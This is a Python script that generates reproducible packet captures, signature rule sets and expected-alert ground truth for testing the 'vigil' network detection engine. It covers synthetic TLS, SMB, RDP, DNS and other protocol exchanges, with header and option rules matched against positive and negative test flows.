#!/usr/bin/python3
"""gen_detect.py - write the detection test captures, the rule sets they are
replayed with, and their ground truth.

Usage: tools/gen_detect.py [OUTDIR]     (default: tests/detect)

Writes into OUTDIR:
  *.pcap            one capture per case: for every signature keyword group,
                    indicator list format and behavioural detector a capture
                    where the rules must fire ("x.pcap") and one where they
                    must not ("x_neg.pcap"), plus benign_office.pcap (an
                    ordinary office, silent under rules/default);
  rulesets/         the rule set directories the captures are replayed with
                    (sig/, ioc/, behav/, suppress_rules/ + suppress/) and the
                    broken ones under bad/ for `vigil rules check`;
  truth.json        per capture: rule set(s), --home-net, the alerts vigil
                    must raise (engine, gid, sid, addresses, detector,
                    indicator, metadata) and their exact number; per rule
                    set: what `vigil rules check` must print.

The captures reuse tools/gen_fixtures.py (its pcap writer, TCP/UDP flow
builders and payloads): fixed timestamps from 2024-01-01, addresses from
the documentation ranges (RFC 5737, 2001:db8::/32, 198.18.0.0/15) and the
192.168.10.0/24 office, seeded random numbers. Running the script twice
gives byte-identical files. Since vigil's rules look at flow metadata
(nDPI's classification, DNS query, TLS SNI/JA3/JA3S/certificate, HTTP
host/user agent), every flow carries a real protocol exchange nDPI 4.2
recognises; the expected JA3/JA3S hashes and certificate SHA1s are computed
here from the same bytes that go on the wire.
"""

import hashlib
import json
import os
import random
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import gen_fixtures as gf  # noqa: E402
from gen_fixtures import Tcp, Udp, Flow  # noqa: E402

from scapy.layers.inet import ICMP, UDP  # noqa: E402
from scapy.packet import Raw  # noqa: E402

HOME_NET = "192.168.10.0/24,2001:db8:10::/48"
RESOLVER = "192.168.10.1"
DAY = 86400

# ---------------------------------------------------------------------------
# Captures with expected alerts


class Cap(gf.Capture):
    """A capture and the alerts vigil must raise on it."""

    def __init__(self, name, rules, t0, note="", home_net=HOME_NET):
        super().__init__(name, t0=t0)
        self.rules = rules if isinstance(rules, list) else [rules]
        self.home_net = home_net
        self.expect = []
        self.note = note
        self.extra = {}

    def alert(self, flow, engine, sid, gid, ports=True, **kw):
        e = {"engine": engine, "sid": sid, "gid": gid,
             "src_ip": flow.cli, "dest_ip": flow.srv}
        if ports and flow.proto in (6, 17):
            e["src_port"] = flow.cport
            e["dest_port"] = flow.sport
        e.update(kw)
        self.expect.append(e)
        return e

    def sig(self, flow, sid, gid=1, **kw):
        return self.alert(flow, "signature", sid, gid, **kw)

    def ioc(self, flow, kind, indicator, lst, **kw):
        # the truth keeps the kind; check_detect.py turns it into the
        # list's sid (rules/README.md)
        sid = {"ip": 1, "domain": 2, "ja3": 3, "ja3s": 4, "cert_sha1": 5}[kind]
        return self.alert(flow, "ioc", sid, 9100,
                          ioc={"kind": kind, "indicator": indicator,
                               "list": lst}, **kw)

    def truth(self):
        rules = [r if r.startswith("rules/") else "tests/detect/rulesets/" + r
                 for r in self.rules]
        t = {"rules": rules[0] if len(rules) == 1 else rules,
             "home_net": self.home_net,
             "expect": self.expect,
             "expect_none": not self.expect,
             "count": len(self.expect),
             "flows": len(self.flows),
             "packets": len(self.records)}
        if self.note:
            t["comment"] = self.note
        t.update(self.extra)
        return t


# ---------------------------------------------------------------------------
# Payloads nDPI 4.2 recognises


def rb(rng, n):
    return bytes(rng.getrandbits(8) for _ in range(n))


CH_EXTS = [0, 23, 0xFF01, 10, 11, 35, 16, 5, 13, 51, 43, 45, 28]
CH_EXTS12 = [0, 23, 0xFF01, 10, 11, 35, 16, 5, 13, 28]
GROUPS = [0x001D, 0x0017, 0x0018, 0x0019, 0x0100]


def client_hello(rng, sni, ciphers, tls13=True, version=0x0303):
    """A ClientHello (Firefox-like extensions) with the given cipher list;
    returns (record bytes, JA3 string). sni None: no SNI extension."""
    exts, ids = b"", []
    if sni is not None:
        name = sni.encode()
        entry = b"\x00" + struct.pack("!H", len(name)) + name
        exts += gf.tls_ext(0, struct.pack("!H", len(entry)) + entry)
        ids.append(0)
    exts += gf.tls_ext(23, b"")
    exts += gf.tls_ext(0xFF01, b"\x00")
    exts += gf.tls_ext(10, gf.u16list(GROUPS))
    exts += gf.tls_ext(11, b"\x01\x00")
    exts += gf.tls_ext(35, b"")
    exts += gf.tls_ext(16, b"\x00\x0c\x02h2\x08http/1.1")
    exts += gf.tls_ext(5, b"\x01\x00\x00\x00\x00")
    exts += gf.tls_ext(13, gf.u16list([0x0403, 0x0503, 0x0603, 0x0804, 0x0805,
                                       0x0806, 0x0401, 0x0501, 0x0601]))
    ids += [23, 0xFF01, 10, 11, 35, 16, 5, 13]
    if tls13:
        ks = struct.pack("!HH", 0x001D, 32) + rb(rng, 32)
        exts += gf.tls_ext(51, struct.pack("!H", len(ks)) + ks)
        exts += gf.tls_ext(43, b"\x04\x03\x04\x03\x03")
        exts += gf.tls_ext(45, b"\x01\x01")
        ids += [51, 43, 45]
    exts += gf.tls_ext(28, b"\x40\x01")
    ids.append(28)
    body = struct.pack("!H", version) + rb(rng, 32) + b"\x20" + rb(rng, 32)
    body += gf.u16list(ciphers) + b"\x01\x00"
    body += struct.pack("!H", len(exts)) + exts
    ja3 = "%d,%s,%s,%s,0" % (version, "-".join(map(str, ciphers)),
                             "-".join(map(str, ids)),
                             "-".join(map(str, GROUPS)))
    return gf.tls_record(22, gf.tls_handshake(1, body), version=0x0301), ja3


def server_hello(rng, cipher, tls13=True, version=0x0303, certs=None):
    """ServerHello (+ Certificate + ServerHelloDone when certs is given;
    TLS 1.3: + ChangeCipherSpec and encrypted records). Returns (bytes,
    JA3S string)."""
    if tls13:
        exts = gf.tls_ext(51, struct.pack("!HH", 0x001D, 32) + rb(rng, 32))
        exts += gf.tls_ext(43, b"\x03\x04")
        ids = [51, 43]
    else:
        exts = gf.tls_ext(0xFF01, b"\x00") + gf.tls_ext(11, b"\x01\x00") + \
            gf.tls_ext(23, b"")
        ids = [0xFF01, 11, 23]
    body = struct.pack("!H", version) + rb(rng, 32) + b"\x20" + rb(rng, 32)
    body += struct.pack("!HB", cipher, 0) + struct.pack("!H", len(exts)) + exts
    hs = gf.tls_handshake(2, body)
    if certs is not None:
        lst = b"".join(struct.pack("!I", len(c))[1:] + c for c in certs)
        hs += gf.tls_handshake(11, struct.pack("!I", len(lst))[1:] + lst)
        hs += gf.tls_handshake(14, b"")
    out = gf.tls_record(22, hs, version=version)
    if tls13:
        out += gf.tls_record(20, b"\x01")
        out += gf.tls_record(23, rb(rng, 2400)) + gf.tls_record(23,
                                                                rb(rng, 280))
    ja3s = "%d,%d,%s" % (version, cipher, "-".join(map(str, ids)))
    return out, ja3s


def md5(s):
    return hashlib.md5(s.encode()).hexdigest()


# Cipher lists: each variant gives the ClientHello its own JA3.
BASE_CIPHERS = [0x1301, 0x1303, 0x1302, 0xC02B, 0xC02F, 0xCCA9, 0xCCA8,
                0xC02C, 0xC030, 0xC013, 0xC014, 0x009C, 0x009D, 0x002F,
                0x0035]


def variant_ciphers(k):
    """The base list with its tail rotated k places: a different JA3."""
    head, tail = BASE_CIPHERS[:3], BASE_CIPHERS[3:]
    k %= len(tail)
    return head + tail[k:] + tail[:k]


# --- X.509 (DER by hand: nDPI hashes the bytes and reads the names) ---------

def der(tag, content):
    n = len(content)
    if n < 0x80:
        ln = bytes([n])
    elif n < 0x100:
        ln = b"\x81" + bytes([n])
    else:
        ln = b"\x82" + struct.pack("!H", n)
    return bytes([tag]) + ln + content


def der_oid(dotted):
    parts = [int(x) for x in dotted.split(".")]
    out = bytes([40 * parts[0] + parts[1]])
    for p in parts[2:]:
        enc = [p & 0x7F]
        p >>= 7
        while p:
            enc.append(0x80 | (p & 0x7F))
            p >>= 7
        out += bytes(reversed(enc))
    return der(0x06, out)


def der_seq(*items):
    return der(0x30, b"".join(items))


def der_int(v):
    b = v.to_bytes((v.bit_length() + 8) // 8 or 1, "big")
    return der(0x02, b)


def x509_name(cn, org, country="XX"):
    def rdn(oid, tag, val):
        return der(0x31, der_seq(der_oid(oid), der(tag, val.encode())))
    return der_seq(rdn("2.5.4.6", 0x13, country), rdn("2.5.4.10", 0x0C, org),
                   rdn("2.5.4.3", 0x0C, cn))


def certificate(rng, cn, issuer_cn=None, org="Vigil Test", san=None,
                not_before="231201000000Z", not_after="240601000000Z"):
    """A DER X.509 v3 certificate for cn (self-signed when issuer_cn is
    None). The signature and key are random bytes: nDPI checks neither."""
    alg = der_seq(der_oid("1.2.840.113549.1.1.11"), b"\x05\x00")
    subject = x509_name(cn, org)
    issuer = subject if issuer_cn is None else x509_name(issuer_cn,
                                                         "Vigil Test CA")
    modulus = int.from_bytes(b"\xc0" + rb(rng, 255), "big") | 1
    spki = der_seq(der_seq(der_oid("1.2.840.113549.1.1.1"), b"\x05\x00"),
                   der(0x03, b"\x00" + der_seq(der_int(modulus),
                                                der_int(65537))))
    names = b"".join(der(0x82, n.encode()) for n in (san or [cn]))
    ext_san = der_seq(der_oid("2.5.29.17"), der(0x04, der_seq(names)))
    tbs = der_seq(der(0xA0, der_int(2)), der_int(rng.getrandbits(63)), alg,
                  issuer, der_seq(der(0x17, not_before.encode()),
                                  der(0x17, not_after.encode())),
                  subject, spki, der(0xA3, der_seq(ext_san)))
    return der_seq(tbs, alg, der(0x03, b"\x00" + rb(rng, 256)))


def sha1hex(b):
    return hashlib.sha1(b).hexdigest()


def colon_sha1(h):
    return ":".join(h[i:i + 2] for i in range(0, 40, 2))


# --- other protocols ---------------------------------------------------------

def telnet_server_hello():
    # IAC DO TERMINAL-TYPE, IAC DO TSPEED, IAC DO XDISPLOC, IAC DO NEW-ENVIRON
    return bytes([255, 253, 24, 255, 253, 32, 255, 253, 35, 255, 253, 39])


def telnet_client_hello():
    return bytes([255, 251, 24, 255, 251, 32, 255, 252, 35, 255, 251, 39])


def smb1_header(cmd, flags, mid):
    return b"\xffSMB" + bytes([cmd]) + b"\x00" * 4 + bytes([flags]) + \
        struct.pack("<H", 0xC853) + b"\x00" * 12 + \
        struct.pack("<HHHH", 0, 0xFEFF, 0, mid)


def nbss(smb):
    return struct.pack("!BBH", 0, 0, len(smb)) + smb


def smb1_session_setup():
    """SMB1 Session Setup AndX (NTLMSSP negotiate): a client that speaks
    SMBv1 beyond the dialect negotiation (nDPI skips negotiates)."""
    blob = b"NTLMSSP\x00\x01\x00\x00\x00\x97\x82\x08\xe2" + b"\x00" * 16
    words = struct.pack("<BBHHHHIHII", 0xFF, 0, 0, 16644, 50, 0, 0,
                        len(blob), 0, 0x800000D4)
    data = blob + b"Unix\x00Samba\x00"
    return nbss(smb1_header(0x73, 0x18, 2) + bytes([12]) + words +
                struct.pack("<H", len(data)) + data)


def smb1_negotiate():
    dialects = b"".join(b"\x02" + d + b"\x00" for d in
                        (b"PC NETWORK PROGRAM 1.0", b"LANMAN1.0",
                         b"Windows for Workgroups 3.1a", b"LM1.2X002",
                         b"LANMAN2.1", b"NT LM 0.12"))
    hdr = b"\xffSMB" + b"\x72" + b"\x00" * 4 + b"\x18" + \
        struct.pack("<H", 0xC853) + b"\x00" * 12 + struct.pack("<HHHH",
                                                                 0, 0xFEFF,
                                                                 0, 0x0001)
    body = b"\x00" + struct.pack("<H", len(dialects)) + dialects
    smb = hdr + body
    return struct.pack("!BBH", 0, 0, len(smb)) + smb


def smb1_negotiate_resp(rng):
    hdr = b"\xffSMB" + b"\x72" + b"\x00" * 4 + b"\x98" + \
        struct.pack("<H", 0xC853) + b"\x00" * 12 + struct.pack("<HHHH",
                                                                 0, 0xFEFF,
                                                                 0, 0x0001)
    words = struct.pack("<HBHHIIIIQhB", 5, 3, 50, 1, 16644, 65536, 0,
                        0x8000E3FD, 0, 0, 8)
    body = bytes([17]) + words + struct.pack("<H", 8) + rb(rng, 8)
    smb = hdr + body
    return struct.pack("!BBH", 0, 0, len(smb)) + smb


def rdp_conn_request(user="vigil"):
    cookie = ("Cookie: mstshash=%s\r\n" % user).encode()
    neg = struct.pack("<BBHI", 1, 0, 8, 3)
    x224 = bytes([6 + len(cookie) + len(neg), 0xE0, 0, 0, 0, 0, 0]) + \
        cookie + neg
    return struct.pack("!BBH", 3, 0, 4 + len(x224)) + x224


def rdp_conn_confirm():
    neg = struct.pack("<BBHI", 2, 0x1F, 8, 1)
    x224 = bytes([6 + len(neg), 0xD0, 0, 0, 0x12, 0x34, 0]) + neg
    return struct.pack("!BBH", 3, 0, 4 + len(x224)) + x224


def dns_q(qid, name, qtype="A"):
    return bytes(gf.dns_query(qid, name, qtype))


def dns_a(qid, name, qtype, answers):
    return bytes(gf.dns_answer(qid, name, qtype, answers))


# ---------------------------------------------------------------------------
# Flow builders: each returns the flow (a gen_fixtures Flow, counted)


class Net:
    """Ephemeral ports and packet-time bookkeeping of one capture."""

    def __init__(self, cap, seed):
        self.cap = cap
        self.rng = random.Random(seed)
        self.ports = gf.Ports()

    def port(self, host):
        return self.ports(host)

    # -- DNS
    def dns(self, t, cli, name, qtype="A", server=RESOLVER, answer=None,
            cport=None):
        """One lookup from its own socket (one flow): query and answer."""
        f = Udp(self.cap, cli, server, cport or self.port(cli), 53)
        qid = self.rng.getrandbits(16)
        f.c(t, dns_q(qid, name, qtype))
        if answer is None:
            answer = {"A": [(name, "A", "198.51.100.200")],
                      "AAAA": [(name, "AAAA", "2001:db8:beef::200")],
                      "TXT": [(name, "TXT", "v=ok")],
                      "NULL": []}.get(qtype, [])
        f.s(t + 0.012, dns_a(qid, name, qtype, answer))
        return f

    # -- TCP conversations
    def tcp(self, t, cli, srv, sport, exchanges, cport=None, close=True,
            rtt=0.02, gap=0.01):
        """Handshake, then (to_server, payload) exchanges, then FIN."""
        f = Tcp(self.cap, cli, srv, cport or self.port(cli), sport)
        t = f.handshake(t, rtt)
        for to_server, data in exchanges:
            t = f.data(t + gap, to_server, data, rtt=rtt)
        if close:
            t = f.close(t + 0.05, rtt)
        f.t_end = t
        return f

    def syn_only(self, t, cli, srv, sport, cport=None, answer=None):
        """A SYN, answered by RST (answer='rst') or not at all."""
        f = Tcp(self.cap, cli, srv, cport or self.port(cli), sport)
        f.seg(t, True, "S", opts=[("MSS", 1460), ("SAckOK", b""),
                                  ("WScale", 7)])
        if answer == "rst":
            f.seq[1] = 0
            f.seg(t + 0.0005, False, "RA")
        return f

    def tls(self, t, cli, srv, sni, ciphers=None, cipher=0x1301, tls13=True,
            version=0x0303, certs=None, sport=443, cport=None, app=2,
            ch_version=None):
        """A TLS session; f.ja3 / f.ja3s hold the expected hashes."""
        rng = self.rng
        ch, ja3 = client_hello(rng, sni, ciphers or BASE_CIPHERS, tls13,
                               ch_version or (0x0303 if tls13 else version))
        sh, ja3s = server_hello(rng, cipher, tls13, version, certs)
        ex = [(True, ch), (False, sh)]
        if tls13:
            ex.append((True, gf.tls_record(20, b"\x01") +
                       gf.tls_record(23, rb(rng, 74))))
        else:
            ex.append((True, gf.tls_record(22, gf.tls_handshake(
                16, b"\x20" + rb(rng, 32)), version=version) +
                gf.tls_record(20, b"\x01", version=version) +
                gf.tls_record(22, rb(rng, 40), version=version)))
            ex.append((False, gf.tls_record(20, b"\x01", version=version) +
                       gf.tls_record(22, rb(rng, 40), version=version)))
        for i in range(app):
            ex.append((True, gf.tls_record(23, rb(rng, 200 + 50 * i),
                                           version=version)))
            ex.append((False, gf.tls_record(23, rb(rng, 1200 + 300 * i),
                                            version=version)))
        f = self.tcp(t, cli, srv, sport, ex, cport=cport, rtt=0.03)
        f.ja3, f.ja3s = md5(ja3), md5(ja3s)
        f.ja3_str, f.ja3s_str = ja3, ja3s
        return f

    def http(self, t, cli, srv, host, ua=gf.UA_FIREFOX, path="/", sport=80,
             size=1500, cport=None):
        req = ("GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\n"
               "Accept: */*\r\nConnection: close\r\n\r\n" % (path, host, ua))
        return self.tcp(t, cli, srv, sport,
                        [(True, req.encode()),
                         (False, gf.http_200(self.rng, size))], cport=cport)

    def ssh(self, t, cli, srv, sport=22, cport=None, typing=0,
            client="SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3",
            server="SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3"):
        rng = self.rng
        ex = [(False, (server + "\r\n").encode()),
              (True, (client + "\r\n").encode()),
              (True, gf.ssh_kexinit(rng, False)),
              (False, gf.ssh_kexinit(rng, True)),
              (True, rb(rng, 48)), (False, rb(rng, 1100)),
              (True, rb(rng, 16))]
        f = Tcp(self.cap, cli, srv, cport or self.port(cli), sport)
        t = f.handshake(t, 0.02)
        for to_server, data in ex:
            t = f.data(t + 0.01, to_server, data, rtt=0.02)
        for i in range(typing):
            t = f.data(t + 2.0 + rng.random(), True, rb(rng, 36), ack=False)
            t = f.data(t + 0.02, False, rb(rng, 36 + 8 * rng.randrange(10)))
        f.t_end = f.close(t + 0.2)
        return f

    def telnet(self, t, cli, srv, sport=23, cport=None):
        ex = [(False, telnet_server_hello()), (True, telnet_client_hello()),
              (False, b"\r\nDebian GNU/Linux 12\r\nrouter login: "),
              (True, b"a"), (False, b"a"), (True, b"d"), (False, b"d"),
              (True, b"m"), (False, b"m"), (True, b"\r\n"),
              (False, b"\r\nPassword: "), (True, b"secret\r\n"),
              (False, b"\r\nLast login: Sun Dec 31 10:00:00\r\n$ "),
              (True, b"exit\r\n"), (False, b"logout\r\n")]
        return self.tcp(t, cli, srv, sport, ex, cport=cport)

    def ftp(self, t, cli, srv, sport=21, cport=None, user="alice"):
        ex = [(False, b"220 ProFTPD Server (Debian) [198.51.100.21]\r\n"),
              (True, ("USER %s\r\n" % user).encode()),
              (False, ("331 Password required for %s\r\n" % user).encode()),
              (True, b"PASS s3cret\r\n"),
              (False, ("230 User %s logged in\r\n" % user).encode()),
              (True, b"SYST\r\n"), (False, b"215 UNIX Type: L8\r\n"),
              (True, b"QUIT\r\n"), (False, b"221 Goodbye.\r\n")]
        return self.tcp(t, cli, srv, sport, ex, cport=cport)

    def smb1(self, t, cli, srv, sport=445, cport=None):
        return self.tcp(t, cli, srv, sport,
                        [(True, smb1_negotiate()),
                         (False, smb1_negotiate_resp(self.rng)),
                         (True, smb1_session_setup()),
                         (False, nbss(smb1_header(0x73, 0x98, 2) +
                                      b"\x00\x00\x00"))], cport=cport)

    def rdp(self, t, cli, srv, sport=3389, cport=None):
        return self.tcp(t, cli, srv, sport,
                        [(True, rdp_conn_request()), (False, rdp_conn_confirm()),
                         (True, rb(self.rng, 300)), (False, rb(self.rng, 900))],
                        cport=cport)

    def ntp(self, t, cli, srv, cport=None, polls=(0.0,)):
        f = Udp(self.cap, cli, srv, cport or self.port(cli), 123)
        for dt in polls:
            req = gf.ntp_packet(3, self.cap.ts(t + dt))
            f.c(t + dt, req)
            f.s(t + dt + 0.018, gf.ntp_packet(4, self.cap.ts(t + dt + 0.018),
                                              req[40:48]))
        return f

    def ping(self, t, cli, srv, count=1, reply=True, ident=0x1d00):
        f = Flow(self.cap, 1, cli, srv)
        for i in range(count):
            pl = struct.pack("!Q", self.cap.ts(t + i)) + bytes(range(16, 56))
            f.send(t + i, True, ICMP(type=8, id=ident, seq=i + 1) / Raw(pl))
            if reply:
                f.send(t + i + 0.01, False, ICMP(type=0, id=ident, seq=i + 1) /
                       Raw(pl))
        return f

    def udp(self, t, cli, srv, sport, payloads, cport=None):
        f = Udp(self.cap, cli, srv, cport or self.port(cli), sport)
        for i, (to_server, data) in enumerate(payloads):
            (f.c if to_server else f.s)(t + 0.05 * i, data)
        return f

    def opaque(self, t, cli, srv, sport, cport=None, proto="tcp"):
        """A connection carrying bytes no dissector claims."""
        if proto == "udp":
            return self.udp(t, cli, srv, sport,
                            [(True, b"\x8e\x01" + rb(self.rng, 60)),
                             (False, b"\x8e\x02" + rb(self.rng, 40))],
                            cport=cport)
        return self.tcp(t, cli, srv, sport,
                        [(True, b"\x8e\x01" + rb(self.rng, 60)),
                         (False, b"\x8e\x02" + rb(self.rng, 120))],
                        cport=cport)


# ---------------------------------------------------------------------------
# Signatures: rulesets/sig (header.rules, options.rules, app.rules,
# buffers.rules, threshold.rules). Every rule is fenced to its own servers
# (198.18.0.0/15) or its own tokens so that it fires only on its case.

CLI = "192.168.10.30"
CLI6 = "2001:db8:10::30"
OUTSIDE = "198.19.0.9"

JA3_HIT = variant_ciphers(1)      # ja3.hash rule
JA3_MISS = variant_ciphers(2)
JA3S_HIT, JA3S_MISS = 0x1302, 0x1303  # ja3s.hash rule: server ciphers


def ja3_of(ciphers, tls13=True):
    ids = [0, 23, 0xFF01, 10, 11, 35, 16, 5, 13] + \
        ([51, 43, 45] if tls13 else []) + [28]
    return md5("771,%s,%s,%s,0" % ("-".join(map(str, ciphers)),
                                    "-".join(map(str, ids)),
                                    "-".join(map(str, GROUPS))))


def ja3s_of(cipher, tls13=True):
    return md5("771,%d,%s" % (cipher, "51-43" if tls13 else "65281-11-23"))


SIG_RULES = {}   # file name -> text (written by write_rulesets)

SIG_RULES["header.rules"] = r"""# Header: protocols, address groups, ports, direction
alert tcp $HOME_NET any -> 198.18.1.0/24 7001 (msg:"HDR tcp HOME_NET to CIDR port 7001"; sid:100101; rev:1;)
alert udp any any -> [198.18.3.0/24,!198.18.3.7] 7002 (msg:"HDR udp address list with negation"; sid:100102; rev:1;)
alert tcp !$HOME_NET any -> $HOME_NET 7003 (msg:"HDR tcp negated HOME_NET inbound"; sid:100103; rev:1;)
alert tcp $HOME_NET any -> $EXTERNAL_NET 7004 (msg:"HDR tcp to EXTERNAL_NET"; sid:100104; rev:1;)
alert tcp 2001:db8:10::/48 any -> 2001:db8:beef::/48 7005 (msg:"HDR tcp IPv6 CIDRs"; sid:100105; rev:1;)
alert tcp any any -> 198.18.6.0/24 7100:7110 (msg:"HDR tcp port range"; sid:100106; rev:1;)
alert udp any any -> 198.18.7.0/24 !7200:7299 (msg:"HDR udp negated port range"; sid:100107; rev:1;)
alert tcp any any -> 198.18.8.0/24 [7400,7402,7410:7420,!7415] (msg:"HDR tcp port list"; sid:100108; rev:1;)
alert tcp any 40000: -> 198.18.9.0/24 7500 (msg:"HDR tcp open-ended source port range"; sid:100109; rev:1;)
alert tcp 198.18.10.0/24 7600 <> $HOME_NET any (msg:"HDR bidirectional"; sid:100110; rev:1;)
alert tcp 198.18.10.0/24 7600 -> $HOME_NET any (msg:"HDR one direction, written from the server side"; sid:100111; rev:1;)
alert icmp $HOME_NET any -> 198.18.12.0/24 any (msg:"HDR icmp"; sid:100112; rev:1;)
alert ip any any -> 198.18.13.0/24 any (msg:"HDR ip any protocol"; sid:100113; rev:1;)
alert ssh any any -> 198.18.16.0/24 any (msg:"HDR app ssh"; sid:100114; rev:1;)
alert dns any any -> 198.18.17.0/24 any (msg:"HDR app dns"; sid:100115; rev:1;)
alert http any any -> 198.18.18.0/24 any (msg:"HDR app http"; sid:100116; rev:1;)
alert smb any any -> 198.18.19.0/24 any (msg:"HDR app smb (nDPI SMBv1)"; sid:100117; rev:1;)
alert ftp any any -> 198.18.20.0/24 any (msg:"HDR app ftp (nDPI FTP_CONTROL)"; sid:100118; rev:1;)
alert tls any any -> 198.18.21.0/24 any (msg:"HDR app tls"; sid:100119; rev:1;)
alert tcp any any -> 198.18.22.0/24 7900 (msg:"HDR flow established"; flow:established,to_server; sid:100120; rev:1;)
alert tcp any any -> 198.18.23.0/24 7901 (msg:"HDR flow not_established"; flow:not_established; sid:100121; rev:1;)
"""


def gen_sig_header():
    hit = Cap("sig_header.pcap", "sig", t0=1 * DAY,
              note="every header form fires on its flow; the rule written "
                   "from the server side (100111) does not")
    neg = Cap("sig_header_neg.pcap", "sig", t0=2 * DAY,
              note="near misses of every header rule: other network, "
                   "protocol, port or direction; no alert")
    h, m = Net(hit, 101), Net(neg, 102)
    t = 1.0

    def step():
        nonlocal t
        t += 1.0
        return t
    # 100101
    f = h.opaque(step(), CLI, "198.18.1.5", 7001)
    hit.sig(f, 100101, rev=1, signature="HDR tcp HOME_NET to CIDR port 7001")
    m.opaque(step(), CLI, "198.18.2.5", 7001)
    m.opaque(step(), CLI, "198.18.1.5", 7001, proto="udp")
    m.opaque(step(), OUTSIDE, "198.18.1.5", 7001)
    m.opaque(step(), CLI, "198.18.1.5", 7009)
    # 100102
    f = h.opaque(step(), CLI, "198.18.3.5", 7002, proto="udp")
    hit.sig(f, 100102)
    m.opaque(step(), CLI, "198.18.3.7", 7002, proto="udp")
    # 100103
    f = h.opaque(step(), OUTSIDE, "192.168.10.31", 7003)
    hit.sig(f, 100103)
    m.opaque(step(), "192.168.10.32", "192.168.10.31", 7003)
    # 100104
    f = h.opaque(step(), CLI, "198.18.4.4", 7004)
    hit.sig(f, 100104)
    m.opaque(step(), CLI, "192.168.10.40", 7004)
    # 100105
    f = h.opaque(step(), CLI6, "2001:db8:beef::5", 7005)
    hit.sig(f, 100105)
    m.opaque(step(), CLI6, "2001:db8:cafe::5", 7005)
    m.opaque(step(), CLI, "198.18.5.5", 7005)
    # 100106: both ends of the range
    for port in (7100, 7110):
        f = h.opaque(step(), CLI, "198.18.6.6", port)
        hit.sig(f, 100106)
    for port in (7099, 7111):
        m.opaque(step(), CLI, "198.18.6.6", port)
    # 100107
    f = h.opaque(step(), CLI, "198.18.7.7", 7300, proto="udp")
    hit.sig(f, 100107)
    m.opaque(step(), CLI, "198.18.7.7", 7250, proto="udp")
    # 100108
    for port in (7402, 7412):
        f = h.opaque(step(), CLI, "198.18.8.8", port)
        hit.sig(f, 100108)
    for port in (7401, 7415):
        m.opaque(step(), CLI, "198.18.8.8", port)
    # 100109
    f = h.opaque(step(), CLI, "198.18.9.9", 7500, cport=40001)
    hit.sig(f, 100109)
    m.opaque(step(), CLI, "198.18.9.9", 7500, cport=39999)
    # 100110 fires with the flow's own orientation; 100111 never
    f = h.opaque(step(), CLI, "198.18.10.10", 7600)
    hit.sig(f, 100110)
    m.opaque(step(), CLI, "198.18.10.10", 7601)
    # 100112
    f = h.ping(step(), CLI, "198.18.12.12", count=2)
    hit.sig(f, 100112)
    m.opaque(step(), CLI, "198.18.12.12", 7700, proto="udp")
    # 100113: TCP and UDP alike
    f = h.opaque(step(), CLI, "198.18.13.13", 7800)
    hit.sig(f, 100113)
    f = h.opaque(step(), CLI, "198.18.13.13", 7801, proto="udp")
    hit.sig(f, 100113)
    m.opaque(step(), CLI, "198.18.14.13", 7800)
    # 100114..100119: application protocols in the header
    f = h.ssh(step(), CLI, "198.18.16.16")
    hit.sig(f, 100114)
    m.tls(step(), CLI, "198.18.16.17", "hdr-app.example")
    f = h.dns(step(), CLI, "hdr-app.example", server="198.18.17.53")
    hit.sig(f, 100115)
    m.ntp(step(), CLI, "198.18.17.53")
    f = h.http(step(), CLI, "198.18.18.18", "hdr-app.example", sport=8080)
    hit.sig(f, 100116)
    m.ssh(step(), CLI, "198.18.18.18")
    f = h.smb1(step(), CLI, "198.18.19.19")
    hit.sig(f, 100117)
    m.rdp(step(), CLI, "198.18.19.19")
    f = h.ftp(step(), CLI, "198.18.20.20")
    hit.sig(f, 100118)
    m.telnet(step(), CLI, "198.18.20.20")
    f = h.tls(step(), CLI, "198.18.21.21", "hdr-app.example")
    hit.sig(f, 100119)
    m.http(step(), CLI, "198.18.21.21", "hdr-app.example")
    # 100120 / 100121: flow state
    f = h.opaque(step(), CLI, "198.18.22.22", 7900)
    hit.sig(f, 100120)
    m.syn_only(step(), CLI, "198.18.22.22", 7900)
    f = h.syn_only(step(), CLI, "198.18.23.23", 7901)
    hit.sig(f, 100121)
    m.opaque(step(), CLI, "198.18.23.23", 7901)
    return [hit, neg]


SIG_RULES["options.rules"] = r"""# Rule options that only describe the alert: msg, sid, rev, gid, classtype,
# priority, reference, metadata; and a rule continued over several lines.
alert tcp $HOME_NET any -> 198.18.30.0/24 8001 (msg:"META all options"; \
    classtype:vigil-test; priority:1; \
    reference:url,vigil.invalid/meta; reference:cve,2024-0001; \
    metadata:created_at 2024_01_01, signature_severity Major; \
    gid:7; sid:100201; rev:4;)
alert tcp $HOME_NET any -> 198.18.30.0/24 8002 (msg:"META built-in classtype"; classtype:trojan-activity; sid:100202;)
alert tcp $HOME_NET any -> 198.18.30.0/24 8003 (msg:"META classtype redefined by classification.config"; classtype:policy-violation; sid:100203; rev:2;)
alert tcp $HOME_NET any -> 198.18.30.0/24 8004 (msg:"META no classtype"; sid:100204;)
alert tcp $HOME_NET any -> 198.18.30.0/24 8005 (msg:"META same sid, other gid"; sid:100201; gid:1;)
"""

SIG_CLASSIFICATION = """# classification.config of the sig rule set: one class of its own, one
# built-in class redefined
config classification: vigil-test,Vigil test traffic,2
config classification: policy-violation,Traffic against the test policy,1
"""


def gen_sig_options():
    hit = Cap("sig_options.pcap", "sig", t0=3 * DAY,
              note="alert fields from msg/sid/rev/gid/classtype/priority/"
                   "reference/metadata")
    neg = Cap("sig_options_neg.pcap", "sig", t0=4 * DAY,
              note="the same servers on other ports, and from outside")
    h, m = Net(hit, 201), Net(neg, 202)
    f = h.opaque(1.0, CLI, "198.18.30.30", 8001)
    hit.sig(f, 100201, gid=7, rev=4, signature="META all options",
            category="Vigil test traffic", severity=1, classtype="vigil-test",
            metadata={"created_at": "2024_01_01",
                      "signature_severity": "Major"},
            references=["url,vigil.invalid/meta", "cve,2024-0001"])
    f = h.opaque(2.0, CLI, "198.18.30.30", 8002)
    hit.sig(f, 100202, rev=1, severity=1, classtype="trojan-activity",
            signature="META built-in classtype")
    f = h.opaque(3.0, CLI, "198.18.30.30", 8003)
    hit.sig(f, 100203, rev=2, severity=1, classtype="policy-violation",
            category="Traffic against the test policy")
    f = h.opaque(4.0, CLI, "198.18.30.30", 8004)
    hit.sig(f, 100204, rev=1, severity=3, category="")
    f = h.opaque(5.0, CLI, "198.18.30.30", 8005)
    hit.sig(f, 100201, gid=1, signature="META same sid, other gid")
